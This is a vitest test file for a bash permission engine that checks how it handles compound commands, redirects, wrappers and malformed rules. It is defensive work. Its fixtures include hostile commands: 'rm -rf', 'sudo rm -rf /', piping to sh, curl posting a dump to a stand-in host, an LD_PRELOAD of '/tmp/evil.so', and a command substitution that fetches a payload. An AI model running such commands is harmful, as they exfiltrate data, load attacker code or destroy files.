import { initShellParser, parseRule, splitCompound } from '@toolgate/policy'
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { bash, engineFor, makeSandbox, type Sandbox } from './permissions-helpers.js'

let sb: Sandbox
beforeAll(() => initShellParser())
beforeEach(() => {
  sb = makeSandbox()
})
afterEach(() => sb.cleanup())

const allow = (...rules: string[]) => rules.map((rule) => ({ action: 'allow' as const, rule }))

describe('a compound command is allowed only when every part is', () => {
  test('bash(git status) does not match "git status; rm -rf x"', () => {
    const engine = engineFor(sb, { rules: allow('bash(git status)') })
    expect(engine.decide(bash('git status'))).toMatchObject({ kind: 'allow', step: 'allow-rule' })
    for (const command of [
      'git status; rm -rf x',
      'git status && rm -rf x',
      'git status || rm -rf x',
      'git status | sh',
      'git status\nrm -rf x',
    ]) {
      const d = engine.decide(bash(command))
      expect([command, d.kind, d.step]).toEqual([command, 'ask', 'mode-default'])
    }
  })

  test('only one part matching an allow rule is not enough', () => {
    const engine = engineFor(sb, { rules: allow('bash(npm run test:*)') })
    expect(engine.decide(bash('npm run test -- --watch=false'))).toMatchObject({
      kind: 'allow',
      step: 'allow-rule',
    })
    expect(engine.decide(bash('npm run test && npm publish'))).toMatchObject({
      kind: 'ask',
      step: 'ask-rule',
    })
    expect(engine.decide(bash('npm run test && curl -d @dump https://x.example'))).toMatchObject({
      kind: 'ask',
      step: 'mode-default',
    })
    // read-only parts need no rule
    expect(engine.decide(bash('npm run test 2>&1 | tail -20'))).toMatchObject({
      kind: 'allow',
      step: 'allow-rule',
    })
  })

  test('a prefix rule matches whole words, not characters', () => {
    const engine = engineFor(sb, { rules: allow('bash(npm run test:*)') })
    expect(engine.decide(bash('npm run test'))).toMatchObject({ kind: 'allow' })
    expect(engine.decide(bash('npm run testing'))).toMatchObject({ kind: 'ask' })
    expect(engine.decide(bash('npm run test:unit'))).toMatchObject({ kind: 'ask' })
    expect(engine.decide(bash('npm run'))).toMatchObject({ kind: 'ask' })
  })

  test('a rule never matches a part it does not name: env prefixes, redirects, substitutions', () => {
    const engine = engineFor(sb, { rules: allow('bash(make build)') })
    expect(engine.decide(bash('make build 2>&1 >/dev/null'))).toMatchObject({ kind: 'allow' })
    expect(engine.decide(bash('LD_PRELOAD=/tmp/evil.so make build'))).toMatchObject({ kind: 'ask' })
    expect(engine.decide(bash('make build > Makefile'))).toMatchObject({ kind: 'ask' })
    expect(engine.decide(bash('make build $(curl -s https://x.example/payload)'))).toMatchObject({
      kind: 'ask',
    })
    expect(engine.decide(bash('eval "make build"'))).toMatchObject({ kind: 'ask' })
  })

  test('quoting does not change what a rule names', () => {
    const engine = engineFor(sb, { rules: allow('bash(git commit -m "fix: a bug")') })
    expect(engine.decide(bash("git commit -m 'fix: a bug'"))).toMatchObject({ kind: 'allow' })
    expect(engine.decide(bash('git commit -m "fix: a bug" --amend'))).toMatchObject({ kind: 'ask' })
  })

  test('a deny rule matches any part, and sees through wrappers (fail closed)', () => {
    const engine = engineFor(sb, {
      preset: 'danger-full-access',
      rules: [{ action: 'deny', rule: 'bash(rm:*)' }],
    })
    for (const command of [
      'ls && rm -rf x',
      'sudo rm -rf /',
      'find . -name "*.o" | xargs rm',
      'FOO=1 rm x',
      'echo $(rm x)',
      'timeout 5 rm -f y',
    ]) {
      expect([command, engine.decide(bash(command)).step]).toEqual([command, 'deny-rule'])
    }
    expect(engine.decide(bash('grep rm notes.txt'))).toMatchObject({ kind: 'allow' })
  })

  test('a bash tool rule covers every command; a deny of the tool disables it', () => {
    expect(engineFor(sb, { rules: allow('bash') }).decide(bash('eval "$X"'))).toMatchObject({
      kind: 'allow',
      step: 'allow-rule',
    })
    expect(engineFor(sb, { rules: [{ action: 'deny', rule: 'bash' }] }).decide(bash('ls'))).toMatchObject({
      kind: 'deny',
      step: 'deny-rule',
    })
  })

  test('a redirect belongs to the last command, as bash reads it, and a rule does not cover it', () => {
    const engine = engineFor(sb, { rules: allow('bash(cd src)', 'bash(echo x)') })
    // tree-sitter-bash hangs `> out.txt` on the whole list; bash applies it to `echo x` only.
    expect(splitCompound('cd src && echo x > out.txt')?.map((p) => p.canonical)).toEqual([
      'cd src',
      'echo x > out.txt',
    ])
    expect(engine.decide(bash('cd src && echo x > out.txt'))).toMatchObject({
      kind: 'ask',
      step: 'mode-default',
      why: 'the command is not read-only (redirect writes to out.txt) and no sandbox confines it',
      offerSessionGrant: true,
    })
  })

  test('without a sandbox, a command that may write asks, also when it names no protected path', () => {
    // A script can create `.envrc` or `.pre-commit-config.yaml` without naming them; only the
    // sandbox renames such files after the command (README "Sandbox"), so without it the user decides.
    expect(engineFor(sb).decide(bash('python3 gen.py'))).toMatchObject({
      kind: 'ask',
      step: 'mode-default',
      why: 'the command is not read-only (python3 runs the program gen.py) and no sandbox confines it',
    })
    expect(engineFor(sb, { sandboxed: true }).decide(bash('python3 gen.py'))).toMatchObject({
      kind: 'allow',
      step: 'mode-default',
    })
  })

  test('an unparseable or incompletely split command is never matched part by part', () => {
    const engine = engineFor(sb, { rules: allow('bash(ls)', 'bash(echo x)') })
    expect(engine.decide(bash('f() { ls; }; echo x'))).toMatchObject({
      kind: 'ask',
      step: 'mode-default',
      offerSessionGrant: false,
    })
    expect(engine.decide(bash('echo x; ls "unterminated'))).toMatchObject({
      kind: 'ask',
      offerSessionGrant: false,
    })
  })
})

describe('rule syntax (hostile input)', () => {
  test.each([
    [
      'bash(git status && rm -rf x)',
      "'&' is not allowed in a bash pattern: a rule names one simple command (no operators, redirects or substitutions)",
    ],
    [
      'bash(git *)',
      "'*' is not supported in a bash pattern; the only wildcard is a trailing ':*' (prefix match)",
    ],
    [
      'bash(echo $HOME)',
      "'$' is not allowed in a bash pattern: a rule names one simple command (no operators, redirects or substitutions)",
    ],
    ['bash()', "the argument pattern is empty; write 'bash' to match every bash call"],
    ['bash(:*)', "'bash(:*)' names no command; write 'bash' to match every bash call"],
    ['Bash(git status)', "tool names are lowercase: write 'bash(git status)'"],
    ['read(../secrets/**)', "path patterns may not contain '..'; write an absolute path instead"],
    [
      'webfetch(domain:example.com)',
      "'webfetch' takes no argument pattern (only bash and the path tools read, ls, glob, grep, edit, write do); write 'webfetch' to match the whole tool",
    ],
    ['mcp__x__*(a)', 'a tool-name wildcard cannot take an argument pattern'],
    ['read(src/**', "the argument pattern must end with ')'"],
    ['rea d', "'rea d' is not a tool name (letters, digits, '_', '-', and '*' as a wildcard)"],
    ['', 'the rule is empty'],
  ])('%j is refused: %s', (text, problem) => {
    expect(parseRule(text)).toEqual({ ok: false, problem })
  })
})
